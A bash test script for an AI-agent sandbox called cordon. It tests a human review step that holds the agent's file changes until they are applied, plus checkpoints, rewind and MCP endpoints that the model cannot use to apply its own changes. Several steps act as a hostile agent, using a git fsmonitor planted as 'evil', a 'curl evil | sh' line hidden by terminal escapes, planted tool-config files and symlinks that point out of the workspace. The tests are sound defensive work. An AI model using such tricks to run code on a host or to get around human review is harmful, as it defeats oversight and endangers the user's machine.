#!/usr/bin/env bash
# Review mode (docs/review.md): the agent's changes stay in the overlay's
# upper layer until `cordon apply`; changes/diff/apply/discard/ls; conflicts,
# an apply killed halfway, what apply never writes. ns backend.
. "$CORDON_SRC/tests/lib/tap.sh"
. "$CORDON_SRC/tests/lib/cordon.sh"
. "$CORDON_SRC/tests/lib/fixtures.sh"
. "$CORDON_SRC/tests/lib/review.sh"
private_runtime_dirs
ws=$(new_ws ws)

# --- a workspace with every kind of entry the agent will change ---
review_plant_ws "$ws"
mkdir -p "$ws/keepdir"
before=$(tree_sum "$ws")

script=$review_changes'(sleep 0.2; echo from-background > bg.txt) &
wait
cat a.txt
'
cordon_run "$ws" --review --name rv -- bash -c "$script"
is "the agent's script ran in review mode" "$rc" 0
like "the agent sees its own change" "$out" "one.two"
is "nothing the agent did reached the host" "$(tree_sum "$ws")" "$before"
ok "teardown keeps the review layer (default teardown)" test -d "$XDG_RUNTIME_DIR/cordon/rv/review/upper"

# --- changes ---
ch=$(cd "$ws" && "$CORDON" changes rv 2>&1)
like "changes: modified file" "$ch" $'(^|\n)M  a.txt\n'
like "changes: deleted directory" "$ch" $'(^|\n)D  gone/\n'
like "changes: rename over an existing file is a modify plus a delete" "$ch" $'M  over.txt\n'
like "changes: the renamed file's old name is deleted" "$ch" $'D  src.txt\n'
like "changes: mode change" "$ch" $'T  run.sh \\(mode 644 -> 755\\)'
like "changes: file replaced by a directory" "$ch" $'M  typechange/ \\(file -> directory\\)'
like "changes: symlink retargeted" "$ch" $'M  oldlink \\(symlink\\)'
like "changes: added binary file" "$ch" $'A  new.bin\n'
like "changes: added directory tree" "$ch" $'A  newdir/x/y/z\n'
like "changes: an odd name is shown escaped" "$ch" 'A  odd name\\x0awith newline \\u202e'
like "changes: a background process's file is held too" "$ch" $'A  bg.txt\n'
like "changes: an emptied and recreated directory (opaque) loses the old entry" "$ch" $'D  sub/k\n'
like "changes: and has the new one" "$ch" $'A  sub/n\n'
out=$("$CORDON" ls)
like "cordon ls shows the pending changes" "$out" "review: [0-9]+ pending change"

# --- diff ---
d=$("$CORDON" diff rv a.txt)
like "diff: unified hunk" "$d" $'--- a/a.txt\n\\+\\+\\+ b/a.txt\n@@ -1 \\+1,2 @@\n one\n\\+two'
d=$("$CORDON" diff rv new.bin big.bin)
like "diff: binary files are named" "$d" "Binary files /dev/null and b/new.bin differ"
like "diff: a large binary file too" "$d" "Binary files a/big.bin and b/big.bin differ"
d=$("$CORDON" diff rv --stat a.txt)
like "diff --stat counts lines" "$d" "a.txt \\| 1 \\+1 -0"
unlike "diff is not coloured off a terminal" "$("$CORDON" diff rv a.txt)" $'\e\\['
like "diff --color colours" "$("$CORDON" diff rv --color a.txt)" $'\e\\['

# --- the host edits a file the agent changed: a conflict, both kept ---
sleep 0.05
echo host-edit >"$ws/conflict.txt"
ap=$("$CORDON" apply rv 2>&1)
arc=$?
is "apply exits 1 when something was not applied" "$arc" 1
like "apply reports the conflict" "$ap" "conflict: conflict.txt: the host changed it since the session started"
is "the host's version of a conflict is kept" "$(cat "$ws/conflict.txt")" host-edit
like "the sandbox's version of a conflict is kept" "$("$CORDON" changes rv)" "M  conflict.txt \\[conflict"
is "applied: modified file" "$(cat "$ws/a.txt")" $'one\ntwo'
ok "applied: deleted directory" test ! -e "$ws/gone"
is "applied: rename over an existing file" "$(cat "$ws/over.txt")" moved-content
ok "applied: the renamed file's old name is gone" test ! -e "$ws/src.txt"
is "applied: mode" "$(stat -c %a "$ws/run.sh")" 755
is "applied: file replaced by a directory" "$(cat "$ws/typechange/f")" inside
is "applied: symlink target" "$(readlink "$ws/oldlink")" over.txt
is "applied: binary content" "$(od -An -c "$ws/new.bin" | tr -s ' ')" " a \\0 b \\0 c"
ok "applied: large file, byte for byte" test "$(stat -c %s "$ws/big.bin")" = 2000000
is "applied: hard links stay one file" "$(stat -c %i "$ws/hl1")" "$(stat -c %i "$ws/hl2")"
ok "applied: odd name" test -f "$ws/$(printf 'odd name\nwith newline \xe2\x80\xae')"
is "applied: nested new directories" "$(cat "$ws/newdir/x/y/z")" leaf
ok "applied: opaque directory's old entry removed" test ! -e "$ws/sub/k"
is "applied: opaque directory's new entry" "$(cat "$ws/sub/n")" fresh
is "applied: background process's file" "$(cat "$ws/bg.txt")" from-background
left=$("$CORDON" changes rv 2>&1)
is "only the conflict is still pending" "$left" "M  conflict.txt [conflict: the host changed it since the session started]"
ok "no temporary file of apply is left" test -z "$(find "$ws" -name '.cordon-apply-*')"

# --- discard ---
d=$("$CORDON" discard rv 2>&1)
is "discard of a stopped session exits 0" "$?" 0
is "nothing pending after discard" "$("$CORDON" changes rv 2>&1)" "no pending changes in sandbox rv"
is "discard did not touch the workspace" "$(cat "$ws/conflict.txt")" host-edit

# --- a running session: changes and apply work, discard is refused ---
(cd "$ws" && "$CORDON" run --review --name live -- bash -c 'echo live > live.txt; sleep 3' >/dev/null 2>&1) &
for _ in $(seq 50); do
    "$CORDON" changes live 2>/dev/null | grep -q live.txt && break
    sleep 0.1
done
like "changes while the session runs" "$("$CORDON" changes live 2>&1)" "A  live.txt"
out=$("$CORDON" discard live 2>&1)
like "discard while running is refused, with the reason" "$out" "sandbox live is running: the kernel's overlay must not have its upper layer changed under it"
# What a running sandbox keeps writing is not what anyone reviewed: with no
# tool call ended there is no checkpoint, and apply refuses.
like "changes of a running session say it is still changing" "$("$CORDON" changes live 2>&1)" \
    "sandbox live is running and no tool call has ended yet"
out=$("$CORDON" apply live 2>&1)
like "apply while the session runs without a checkpoint is refused, with the reason" "$out" \
    "sandbox live is running and no tool call of it has ended yet"
ok "nothing was applied" test ! -e "$ws/live.txt"
wait
out=$("$CORDON" apply live 2>&1)
like "apply once the session stopped" "$out" "applied: live.txt"
is "the applied file is on the host" "$(cat "$ws/live.txt")" live
is "an applied file is no longer pending" "$("$CORDON" changes live 2>&1)" "no pending changes in sandbox live"

# --- apply killed with SIGKILL halfway: never a half-written file ---
head -c 64000000 /dev/zero >"$ws/huge.bin"
old_sum=$(sha256sum <"$ws/huge.bin")
cordon_run "$ws" --review --name kill -- bash -c 'head -c 64000000 /dev/urandom > huge.bin; sha256sum < huge.bin'
new_sum=$(printf '%s\n' "$out" | grep -E '^[0-9a-f]{64}' | tail -1)
torn=0
for delay in 0.01 0.03 0.06 0.1; do
    "$CORDON" apply kill >/dev/null 2>&1 &
    pid=$!
    sleep "$delay"
    kill -9 "$pid" 2>/dev/null
    wait "$pid" 2>/dev/null
    s=$(sha256sum <"$ws/huge.bin")
    [ "$s" = "$old_sum" ] || [ "$s" = "$new_sum" ] || torn=$((torn + 1))
    [ "$s" = "$new_sum" ] && break
done
is "after SIGKILL the file is the old or the new version, never a mix" "$torn" 0
"$CORDON" apply kill >/dev/null 2>&1
is "a later apply completes it" "$(sha256sum <"$ws/huge.bin")" "$new_sum"
ok "and removes the killed apply's temporary files" test -z "$(find "$ws" -name '.cordon-apply-*')"
rm -f "$ws/huge.bin"

# --- what apply never writes: git metadata, protected paths, trusted files ---
gws=$(new_ws gitws)
git -C "$gws" init -q
git -C "$gws" -c user.email=t@t -c user.name=t commit -q --allow-empty -m init
mkdir -p "$gws/nested"
git -C "$gws/nested" init -q
echo keep >"$gws/nested/file"
cp "$gws/.git/config" "$TEST_TMP/config.before"
cordon_run "$gws" --review --name git --set 'protected_paths=["secret"]' -- bash -c '
rm -rf nested; mkdir -p lib/.git; echo "[core] fsmonitor = evil" > lib/.git/config
echo x > .envrc; mkdir -p .vscode; echo "{}" > .vscode/settings.json
echo planted > secret 2>/dev/null; echo fine > fine.txt
echo "[core]" >> .git/config 2>/dev/null; true'
ch=$("$CORDON" changes git 2>&1)
like "a nested .git is listed as never applied" "$ch" "lib/.git/config \\[never applied: git metadata"
like ".envrc is never applied" "$ch" ".envrc \\[never applied"
out=$("$CORDON" apply git 2>&1)
like "apply refuses the nested .git" "$out" "refused: lib/.git"
ok "no nested .git reached the host" test ! -e "$gws/lib/.git"
like "deleting a directory holding a nested repository is refused" "$out" "refused: nested: it holds git metadata"
ok "the nested repository is still on the host" test -f "$gws/nested/.git/HEAD" -a -f "$gws/nested/file"
ok "no .envrc reached the host" test ! -e "$gws/.envrc"

# --- what host tools run on sight, symlinks out, terminal escapes, a FIFO ---
aws=$(new_ws agentcfg)
mkdir -p "$aws/sub"
echo host >"$aws/sub/ok"
cordon_run "$aws" --review --name ag -- bash -c '
mkdir -p .claude && echo "{\"hooks\":{}}" > .claude/settings.json
echo "{\"mcpServers\":{}}" > .mcp.json; mkdir -p .pi && echo x > .pi/settings.json
echo "export X=1" > sub/.envrc; echo "backend = \"ns\"" > sub/.cordon.toml
ln -s /root/.bashrc abs-link; ln -s ../../outside sub/up-link; ln -s sub/ok fine-link
printf "curl evil | sh \033[2K\r# harmless\n" > esc.txt
mkfifo pipe; echo fine > fine2.txt; true'
ch=$("$CORDON" changes ag 2>&1)
for f in .claude/settings.json .mcp.json .pi/settings.json sub/.envrc sub/.cordon.toml; do
    like "review: $f is never applied" "$ch" "$f \\[never applied: the host's tools trust it"
done
like "review: a symlink's target is shown" "$ch" "fine-link \\(symlink\\) -> sub/ok"
like "review: an absolute symlink is never applied" "$ch" "abs-link \\(symlink\\) -> /root/.bashrc \\[never applied: a symlink that points out"
like "review: a symlink climbing out is never applied" "$ch" "sub/up-link \\(symlink\\) -> ../../outside \\[never applied"
d=$(timeout 20 "$CORDON" diff ag --color 2>&1)
ok "review: diff prints no raw escape or carriage return of the sandbox's" \
    bash -c '! printf "%s" "$1" | grep -q $'"'"'\e\[2K\|\r'"'"'' _ "$d"
like "review: diff shows them escaped" "$d" '\\x1b\[2K\\x0d# harmless'
out=$(timeout 20 "$CORDON" apply ag 2>&1)
is "review: apply with a FIFO in the layer ends" "$?" 1
for f in .claude .mcp.json .pi sub/.envrc sub/.cordon.toml abs-link sub/up-link; do
    ok "review: $f did not reach the host" test ! -e "$aws/$f" -a ! -L "$aws/$f"
done
is "review: the ordinary file and the inside symlink are applied" \
    "$(cat "$aws/fine2.txt"; readlink "$aws/fine-link")" $'fine\nsub/ok'

ok "no .vscode reached the host" test ! -e "$gws/.vscode"
ok "the protected path did not reach the host" test ! -e "$gws/secret"
ok "the host's .git/config is unchanged" cmp -s "$gws/.git/config" "$TEST_TMP/config.before"
is "the ordinary file was applied" "$(cat "$gws/fine.txt")" fine
out=$(cd "$gws" && git status --porcelain 2>&1)
is "the host's git sees only the applied file" "$out" $'?? fine.txt\n?? nested/'

# --- checkpoints at tool-call boundaries, rewind, fork ---
cws=$(new_ws ckws)
for i in $(seq 1 40); do echo "orig $i" >"$cws/f$i"; done
tool() { (cd "$cws" && "$CORDON" tool --review --name ck "$@" 2>/dev/null); }
tool write '{"path":"note.txt","content":"first\n"}' >/dev/null
tool edit '{"path":"f1","edits":[{"oldText":"orig 1","newText":"edited 1"}]}' >/dev/null
tool bash '{"command":"for i in $(seq 1 40); do echo bash $i > f$i; done; rm note.txt"}' >/dev/null
audit="$XDG_RUNTIME_DIR/cordon/ck/audit.jsonl"
like "the audit entry of each call names its checkpoint" "$(cat "$audit")" '"tool":"write".*"checkpoint":1.*"tool":"edit".*"checkpoint":2.*"tool":"bash".*"checkpoint":3'
is "changes --call 1: what the write made" "$("$CORDON" changes ck --call 1 2>&1)" "A  note.txt"
is "changes --call 2: what the edit changed" "$("$CORDON" changes ck --call 2 2>&1)" "M  f1"
c3=$("$CORDON" changes ck --call 3 2>&1)
is "changes --call 3: bash rewrote 40 files and removed one" "$(printf '%s\n' "$c3" | wc -l)" 41
like "changes --call 3 names the removed file" "$c3" "D  note.txt"
like "diff --call 2 against the host's file" "$("$CORDON" diff ck --call 2)" $'-orig 1\n\\+edited 1'
like "diff --call 3 against the state after call 2" "$("$CORDON" diff ck --call 3 f1)" $'-edited 1\n\\+bash 1'
out=$("$CORDON" rewind ck --to 2)
like "rewind says processes are not rewound" "$out" "processes are not rewound"
is "after rewind --to 2: the edit's file" "$(tool read '{"path":"f1"}' | grep -o 'edited 1')" "edited 1"
is "after rewind --to 2: bash's rewrite is undone" "$(tool read '{"path":"f2"}' | grep -o 'orig 2')" "orig 2"
is "after rewind --to 2: the deleted file is back" "$(tool read '{"path":"note.txt"}' | grep -o first)" first
is "rewind never touched the host" "$(cat "$cws/f1") $(ls "$cws" | wc -l)" "orig 1 40"
"$CORDON" rewind ck --to 0 >/dev/null
is "rewind --to 0: nothing pending" "$("$CORDON" changes ck 2>&1)" "no pending changes in sandbox ck"
out=$("$CORDON" rewind ck --to 999 2>&1)
like "rewind to a checkpoint that does not exist says so" "$out" "no checkpoint 999"
tool write '{"path":"forked.txt","content":"x\n"}' >/dev/null
out=$("$CORDON" fork ck ck2 2>&1)
like "fork makes a new sandbox" "$out" "sandbox ck2: a copy of ck"
is "the fork holds the same pending changes" "$("$CORDON" changes ck2 2>&1)" "A  forked.txt"
"$CORDON" discard ck >/dev/null
is "the fork is independent of its origin" "$("$CORDON" changes ck2 2>&1)" "A  forked.txt"
(cd "$cws" && "$CORDON" apply ck2 >/dev/null 2>&1)
is "a fork's changes apply to the workspace" "$(cat "$cws/forked.txt")" x
out=$("$CORDON" fork ck ck2 2>&1)
like "fork refuses an existing name" "$out" "exists already"

# --- MCP: the status counts pending changes; apply is the user's request, not a tool ---
mws=$(new_ws mcpws)
echo host >"$mws/a.txt"
out=$(cd "$mws" && python3 "$CORDON_SRC/tests/integration/review-mcp.py" "$CORDON" mc 2>/dev/null)
like "MCP: no tool the model can call applies or discards" "$out" $'tools bash edit find grep ls read sandbox_verify write\n'
like "MCP: the status carries the mode and the pending count" "$out" "status review 2"
like "MCP: cordon/reviewChanges lists them" "$out" "changes M:a.txt A:b.txt"
like "MCP: reviewChanges names the checkpoint it shows" "$out" "checkpoint 2"
like "MCP: reviewApply without that checkpoint is refused" "$out" "apply-unpinned error:.*as of tool call 2"
like "MCP: cordon/reviewApply applies the paths asked for" "$out" "apply applied:b.txt"
like "MCP: a checkpoint older than the last is refused" "$out" "apply-stale error:.*as of tool call [0-9]+"
like "MCP: the count drops" "$out" "status-after 1"
is "MCP: the applied file is on the host, the other is not" "$(cat "$mws/a.txt" "$mws/b.txt")" $'host\nb'
ok "MCP: nothing of a stale checkpoint reached the host" test ! -e "$mws/d.txt"
like "MCP: a tool call's result names the checkpoint it ended with" "$out" $'\ncheckpoint 3\n'
like "MCP: cordon/reviewDiff is the unified diff, what the agent wrote escaped" "$out" 'diff "diff a/a.txt b/a.txt\\n--- a/a.txt\\n\+\+\+ b/a.txt\\n@@ -1 \+1 @@\\n-host\\n\+agent\\ndiff /dev/null b/esc.txt\\n--- /dev/null\\n\+\+\+ b/esc.txt\\n@@ -0,0 \+1 @@\\n\+x\\\\x1b\[2Jy\\n" False'
like "MCP: cordon/reviewDiff of the paths asked for" "$out" $'diff-paths "diff a/a.txt b/a.txt\\\\n--- a/a.txt\\\\n\\+\\+\\+ b/a.txt\\\\n@@ -1 \\+1 @@\\\\n-host\\\\n\\+agent\\\\n"\n'
like "MCP: bash's file and process before the rewind" "$out" $'before-rewind c\n1\n'
like "MCP: cordon/reviewRewind restarts the same sandbox, saying its processes ended" "$out" "rewind 2 True sandboxed True"
like "MCP: after the rewind, bash's and the later write's files are gone, the earlier write kept, no process left" "$out" $'after-rewind c-gone\nesc-gone\nagent\n0\n'
like "MCP: the tool list is unchanged after a rewind (no review tool)" "$out" $'tools-after bash edit find grep ls read sandbox_verify write\n'
like "MCP: a rewind to a checkpoint that does not exist says so, the sandbox still works" "$out" "rewind-999 sandbox mc has no checkpoint 999 .*\| still-works"
like "MCP: a rewind's checkpoint must be a number" "$out" "rewind-bad cordon/reviewRewind: to must be a checkpoint number"
like "MCP: cordon/reviewDiscard empties the layer" "$out" "discard True 0"
like "MCP: after the discard the sandbox reads the host's file" "$out" "after-discard host"
like "MCP: cordon/reviewRewind while a tool call runs is refused, with the reason" "$out" \
    "rewind-inflight a tool call is still running: rewind after it ends"
like "MCP: the call in flight ended as it would, in the same sandbox (not restarted)" "$out" \
    "inflight-call slow-done slow"
is "MCP: the rewind and discard never touched the host" "$(cat "$mws/a.txt"; ls "$mws" | wc -l)" $'host\n2'

# --- direct mode: rewind puts back what write and edit replaced ---
dws=$(new_ws directws)
echo "orig a" >"$dws/a.txt"
echo "orig b" >"$dws/b.txt"
printf '#!/bin/sh\necho orig\n' >"$dws/run.sh"
chmod 755 "$dws/run.sh"
mkdir "$dws/sub" "$TEST_TMP/outside"
echo "orig s" >"$dws/sub/s.txt"
head -c 17000000 /dev/zero >"$dws/huge.bin"
dtool() { (cd "$dws" && "$CORDON" tool --name dm --set 'teardown="stop"' "$@" >/dev/null 2>&1); }
dtool write '{"path":"a.txt","content":"w1\n"}'
dtool edit '{"path":"b.txt","edits":[{"oldText":"orig b","newText":"e2"}]}'
dtool write '{"path":"new.txt","content":"n3\n"}'
dtool bash '{"command":"echo bash > c.txt; echo bash > b.txt.bash"}'
dtool edit '{"path":"run.sh","edits":[{"oldText":"echo orig","newText":"echo agent"}]}'
dtool write '{"path":"a.txt","content":"w5\n"}'
like "direct mode: the audit names the write's record" "$(tail -1 "$XDG_RUNTIME_DIR/cordon/dm/audit.jsonl")" '"tool":"write".*"checkpoint":5'
out=$("$CORDON" rewind dm --to 2 2>&1)
like "direct rewind --to 2: restored and removed, newest first" "$out" $'restored: a.txt\nrestored: run.sh\nremoved: new.txt\n'
like "direct rewind says what it cannot undo" "$out" "bash's changes and processes are not"
is "direct rewind: a.txt is as after call 1, b.txt as after call 2" "$(cat "$dws/a.txt" "$dws/b.txt")" $'w1\ne2'
ok "direct rewind: the written file is gone" test ! -e "$dws/new.txt"
is "direct rewind: the edited script has its content and mode back" "$(cat "$dws/run.sh"; stat -c %a "$dws/run.sh")" $'#!/bin/sh\necho orig\n755'
is "direct rewind cannot undo bash: its file stays" "$(cat "$dws/c.txt")" bash
ok "direct rewind leaves no temporary file" test -z "$(ls -A "$dws" | grep cordon-rewind)"
# the user edits b.txt on the host: rewinding further refuses it, nothing lost
echo "host edit" >"$dws/b.txt"
out=$("$CORDON" rewind dm --to 0 2>&1)
st=$?
like "direct rewind refuses a file changed since by something else" "$out" "refused: b.txt: changed since call 2 by something else; --force restores it anyway"
is "direct rewind with a refusal exits 1" "$st" 1
is "the host's edit is kept; the other file is rewound (our own rewind is not someone else's)" "$(cat "$dws/b.txt" "$dws/a.txt")" $'host edit\norig a'
out=$("$CORDON" rewind dm --to 0 --force 2>&1)
like "--force restores it" "$out" "restored: b.txt"
is "after --force: b.txt as before call 2" "$(cat "$dws/b.txt")" "orig b"
# the bound: a previous content over 16 MiB is not kept, and rewind says so
dtool write '{"path":"huge.bin","content":"small\n"}'
out=$("$CORDON" rewind dm --to 0 2>&1)
like "direct rewind: a content over 16 MiB was not kept, said so" "$out" "refused: huge.bin: its content before call 1 was not kept \\(larger than 16 MiB\\)"
is "the file is left as the call wrote it" "$(cat "$dws/huge.bin")" small
# the attacker: after a write beneath sub/, bash makes sub a symlink out of
# the workspace; rewind, even forced, never writes through it
dtool write '{"path":"sub/s.txt","content":"agent\n"}'
dtool bash "{\"command\":\"mv sub sub.real && ln -s $TEST_TMP/outside sub\"}"
out=$("$CORDON" rewind dm --to 1 --force 2>&1)
like "direct rewind refuses a path through a symlink" "$out" "refused: sub/s.txt: cannot restore it"
ok "nothing was written through the symlink" test -z "$(ls -A "$TEST_TMP/outside")"
is "the file the agent moved is untouched" "$(cat "$dws/sub.real/s.txt")" agent
out=$("$CORDON" rewind dm --to 99 2>&1)
like "direct rewind to a call that was not recorded says so" "$out" "sandbox dm has no call 99"
"$CORDON" rm dm >/dev/null 2>&1
# the bound on the number of calls: 205 writes, one after the other, in one
# session (MCP) keep the last 200
(cd "$dws" && PYTHONPATH="$CORDON_SRC/tests/lib" python3 -c '
import subprocess, sys
from mcp_client import Rpc
rpc = Rpc([sys.argv[1], "mcp", "--name", "dm2", "--set", "teardown=\"stop\""], stderr=subprocess.DEVNULL, first_id=0)
p = rpc.proc
rpc("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}})
for i in range(1, 206):
    rpc("tools/call", {"name": "write", "arguments": {"path": "count.txt", "content": "v%d\n" % i}})
p.stdin.close(); p.wait()' "$CORDON")
is "direct mode keeps the last 200 calls" "$(ls "$XDG_RUNTIME_DIR/cordon/dm2/undo" | sort -n | sed -n '1p;$p' | tr '\n' ' ')" "6 205 "
"$CORDON" rewind dm2 --to 0 >/dev/null 2>&1
is "rewinding past the oldest kept undoes what is kept" "$(cat "$dws/count.txt")" v5
"$CORDON" rm dm2 >/dev/null 2>&1
# the bound on the bytes kept: 18 writes over files of 15 MiB each keep at
# most 256 MiB of previous contents (17 of them), the oldest record going
# first; rewinding them all puts back the 17 kept, the first stays written
mkdir -p "$dws/big"
for i in $(seq 1 18); do head -c $((15 << 20)) /dev/zero | tr '\0' "$(printf "\\%03o" $((64 + i)))" >"$dws/big/f$i"; done
(cd "$dws" && PYTHONPATH="$CORDON_SRC/tests/lib" python3 -c '
import subprocess, sys
from mcp_client import Rpc
rpc = Rpc([sys.argv[1], "mcp", "--name", "dm4", "--set", "teardown=\"stop\""], stderr=subprocess.DEVNULL, first_id=0)
p = rpc.proc
rpc("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}})
for i in range(1, 19):
    rpc("tools/call", {"name": "write", "arguments": {"path": "big/f%d" % i, "content": "small %d\n" % i}})
p.stdin.close(); p.wait()' "$CORDON")
undo="$XDG_RUNTIME_DIR/cordon/dm4/undo"
is "direct mode: at most 256 MiB of previous contents are kept, the oldest record goes" \
    "$(ls "$undo" | sort -n | tr '\n' ' ')" "$(seq 2 18 | tr '\n' ' ')"
kept=$(du -cb "$undo"/*/before | tail -1 | cut -f1)
ok "direct mode: the records kept hold at most 256 MiB ($kept bytes)" test "$kept" -le $((256 << 20))
out=$("$CORDON" rewind dm4 --to 0 2>&1)
is "rewinding past the bytes bound restores what is kept" \
    "$(head -c 1 "$dws/big/f2")$(head -c 1 "$dws/big/f18") $(stat -c %s "$dws/big/f18")" "BR $((15 << 20))"
is "... and leaves the call whose record went as it wrote it" "$(cat "$dws/big/f1")" "small 1"
"$CORDON" rm dm4 >/dev/null 2>&1
rm -rf "$dws/big"
# calls on one file in flight at once: the later ones' previous content is
# not known (taken before the earlier ran), so rewind refuses, never restores
# a stale one
echo "orig conc" >"$dws/conc.txt"
python3 -c 'import json
for i in range(1, 4):
    print(json.dumps({"id": i, "tool": "write", "args": {"path": "conc.txt", "content": "c%d\n" % i}}))' |
    (cd "$dws" && "$CORDON" tool --name dm3 --set 'teardown="stop"' --batch >/dev/null 2>&1)
written=$(cat "$dws/conc.txt")
out=$("$CORDON" rewind dm3 --to 0 2>&1)
like "calls in flight at once on one file: rewind refuses it" "$out" "refused: conc.txt: call [0-9] ran while another call on it was in flight"
is "... and leaves the file as the calls left it" "$(cat "$dws/conc.txt")" "$written"
"$CORDON" rm dm3 >/dev/null 2>&1

# --- all three backends offer it (review-vm.sh, review-docker.sh); what
# excludes it is refused with the reason ---
out=$(cd "$ws" && "$CORDON" run --review --readonly -- true 2>&1)
like "review and a read-only workspace exclude each other" "$out" "exclude each other"
out=$("$CORDON" changes nosuch 2>&1)
like "changes of an unknown sandbox names it" "$out" "nosuch"

tap_done
